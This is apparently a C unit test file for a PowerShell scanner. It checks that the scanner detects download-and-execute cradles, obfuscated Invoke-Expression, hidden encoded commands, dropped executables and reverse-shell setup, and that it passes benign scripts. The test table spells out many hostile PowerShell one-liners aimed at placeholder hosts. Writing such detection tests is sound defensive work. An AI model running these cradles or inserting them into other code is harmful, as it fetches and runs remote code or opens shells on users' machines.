/* What a script of PowerShell does, and what only looks like it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/buf.h"
#include "inspect/scan_power.h"
#include "parse/power.h"

#define FETCHED   POWER_DOES_FETCHED
#define ODD       POWER_DOES_FETCHED_ODD
#define INSTALLER POWER_DOES_INSTALLER
#define DECODED   POWER_DOES_DECODED
#define HIDES     POWER_DOES_HIDES
#define ENCODED   POWER_DOES_ENCODED
#define STARTS    POWER_DOES_STARTS
#define REVERSE   POWER_DOES_REVERSE

/* "Write-Output 'a command that is long enough'", in two bytes a letter. */
#define COMMAND "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGEAIABjAG8AbQBtAGEAbgBkACAAdABoAGEAdAAgAGkAcwAgAGwAbwBuAGcAIABlAG4AbwB1AGcAaAAnAA=="
#define PLAIN   "VGhpcyBpcyBhIHRleHQgb2YgbGV0dGVycyBpbiBvbmUgYnl0ZSBlYWNoLCBhbmQgbm8gY29tbWFuZA=="

static void scripts(void **state)
{
	static const struct {
		const char *text;
		unsigned want;
	} rows[] = {
	        {"iex (irm https://x.example/i.ps1)", FETCHED},
	        {"IEX(New-Object Net.WebClient).DownloadString('https://x.example/i')", FETCHED},
	        {"irm https://x.example/i | iex", FETCHED},
	        {"$s = (New-Object Net.WebClient).DownloadString('https://x.example/i')\n# a\nInvoke-Expression $s", FETCHED},
	        {"$r = Invoke-WebRequest -Uri 'https://x.example/i' -UseBasicParsing\niex $r.Content", FETCHED},
	        {"& ([scriptblock]::Create((iwr https://x.example/i).Content))", FETCHED},
	        {"I`E`X (irm https://x.example/i)", FETCHED},
	        {"& 'iex' (irm https://x.example/i)", FETCHED},
	        {"Set-Alias run Invoke-Expression\nrun (irm https://x.example/i)", FETCHED},
	        {"function Get-It($u) { return (irm $u) }\niex (Get-It 'https://x.example/i')", FETCHED},
	        {"function Run { param($c)\n iex $c }\nRun (irm https://x.example/i)", FETCHED},
	        {"iex \"& { $(irm https://x.example/i) } -Quiet\"", FETCHED},
	        {"iex (irm http://x.example/i)", ODD},
	        {"iex (irm https://192.0.2.1/i)", ODD},
	        {"iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", INSTALLER},
	        {"iex \"& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI\"", INSTALLER},
	        {"irm bun.sh/install.ps1 | iex", INSTALLER},
	        {"irm x.example/i | iex", FETCHED},
	        {"$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d))\niex $t", DECODED},
	        {"[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ')).EntryPoint.Invoke($null, $null)", DECODED},
	        {"$b = foreach ($c in $a) { $c -bxor 7 }\n$k = $a -bxor 7\niex $k", DECODED},
	        {"& ([char]105+[char]101+[char]120) $x", HIDES},
	        {".('{1}{0}' -f 'ex','i') $x", HIDES},
	        {"& ($pshome[21]+$pshome[30]+'x') $x", HIDES},
	        {"& (gcm *ke-Ex*) $x", HIDES},
	        {"$x = 'i' + 'ex'\n& $x (irm https://x.example/i)", HIDES | FETCHED},
	        {"powershell -nop -w hidden -enc " COMMAND, ENCODED},
	        {"Start-Process powershell -ArgumentList \"-NoP -EncodedCommand " COMMAND "\"", ENCODED},
	        {"$f = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('http://x.example/a', $f)\nStart-Process $f", STARTS},
	        {"iwr https://x.example/a.exe -OutFile $f\nStart-Process -FilePath $f -WindowStyle Hidden", STARTS},
	        {"[IO.File]::WriteAllBytes($f, [Convert]::FromBase64String($d))\n& $f", STARTS},
	        {"$c = New-Object Net.Sockets.TcpClient('192.0.2.1', 4)\n$d = $c.GetStream()\niex $x", REVERSE},
	        /* Honest ones. */
	        {"iex \"npm install $name\"", 0},
	        {"$v = (irm https://x.example/v.json).tag_name\niex \"npm install a@$v\"", 0},
	        {"$v = irm https://x.example/v.json | ConvertFrom-Json\niex $v", 0},
	        {"# iex (irm https://x.example/i)\n<# iex (irm https://x.example/i) #>", 0},
	        {"Write-Host 'iex (irm https://x.example/i)'", 0},
	        {"$s = irm https://x.example/i\niex $other\nSet-Content a.txt $s", 0},
	        {"$d = [Convert]::FromBase64String($t)\n[IO.File]::WriteAllBytes('a.pfx', $d)", 0},
	        {"[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('a.dll'))", 0},
	        {"[Reflection.Assembly]::LoadWithPartialName('System.Web')", 0},
	        {"& (Join-Path $PSScriptRoot 'build.ps1') -Target a", 0},
	        {"& ('{0}\\{1}' -f $dir, 'tool.exe') x", 0},
	        {"powershell -NoProfile -EncodedCommand $encoded", 0},
	        {"$x = 'i' + 'ex'\n$x\n& $y $x", 0},
	        {"powershell -EncodedCommand " PLAIN, 0},
	        {"iwr https://x.example/a.msi -OutFile $f\nStart-Process $f", 0},
	        {"iwr https://x.example/a.exe -OutFile $f\nif ((Get-FileHash $f).Hash -ne $h) { throw }\nStart-Process $f -WindowStyle "
	         "Hidden",
	                0},
	        {"Invoke-Expression \"$a -bxor $b\" | Should -Be $r", 0},
	        {"@'\niex (irm https://x.example/i)\n'@ | Out-File a.txt", 0},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		if (scan_power(slice_str(rows[i].text), NULL) != rows[i].want)
			fail_msg("%s: %u, not %u", rows[i].text, scan_power(slice_str(rows[i].text), NULL), rows[i].want);
}

/* Words as they are, "$" before variables, texts in quotes, "|" for the end of a statement. */
static void tokens(void **state)
{
	static const struct {
		const char *text, *want;
	} rows[] = {
	        {"a -b $c.d('e''f', \"g`\"h\") # i\nj;k", "a -b $c . d ( 'e''f' , 'g`\"h' ) | j | k"},
	        {"[Net.WebClient]::new()", "[ Net.WebClient ] . new ( )"},
	        {"${a b} $env:c:d", "$a b $env:c:d"},
	        {"a `\n b", "a b"},
	        {"@'\na 'b'\n'@ c", "'a 'b'' c"},
	        {"@\"\n\"@", "''"},
	        {".\\a.ps1 . $b", ".\\a.ps1 . $b"},
	        {"f (a\nb)\nc", "f ( a b ) | c"},
	        {"'a", "'a'"},
	        {"\"a`", "'a`'"},
	        {"${a", "$"},
	        {"<# a", ""},
	        {"@'\na", "'a'"},
	        {")]}", ") ] }"},
	        {"", ""},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		_cleanup_arena_ struct arena a = ARENA(1 << 20);
		_cleanup_buf_ struct buf b = BUF(65536);
		struct power_token *t;
		size_t n;
		bool all;
		assert_int_equal(power_read(slice_str(rows[i].text), 1000, &a, &t, &n, &all), 0);
		assert_true(all);
		for (size_t k = 0; k < n; k++) {
			buf_str_add(&b, k ? " " : "");
			if (t[k].kind == POWER_SIGN)
				buf_u8(&b, t[k].sign);
			else
				buf_fmt(&b,
				        t[k].kind == POWER_TEXT       ? "'%.*s'"
				        : t[k].kind == POWER_VARIABLE ? "$%.*s"
				        : t[k].kind == POWER_END      ? "|%.*s"
				                                      : "%.*s",
				        SLICE_FMT(t[k].text));
		}
		if (strcmp(buf_str(&b), rows[i].want) != 0)
			fail_msg("%s: %s, not %s", rows[i].text, buf_str(&b), rows[i].want);
	}
}

static void a_limit_is_said(void **state)
{
	_cleanup_buf_ struct buf b = BUF(8 << 20);
	_cleanup_arena_ struct arena a = ARENA(1 << 20);
	struct power_token *t;
	size_t n;
	bool all;
	(void)state;
	for (int i = 0; i < 300000; i++)
		buf_str_add(&b, "a b ");
	assert_true(scan_power(buf_slice(&b), NULL) & POWER_DOES_MORE);
	buf_reset(&b);
	for (int i = 0; i < 100000; i++)
		buf_str_add(&b, "iex |");
	assert_true(scan_power(buf_slice(&b), NULL) & POWER_DOES_MORE);
	assert_int_equal(power_read(SLICE("a b c"), 2, &a, &t, &n, &all), 0);
	assert_int_equal(n, 2);
	assert_false(all);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(scripts),
	        cmocka_unit_test(tokens),
	        cmocka_unit_test(a_limit_is_said),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
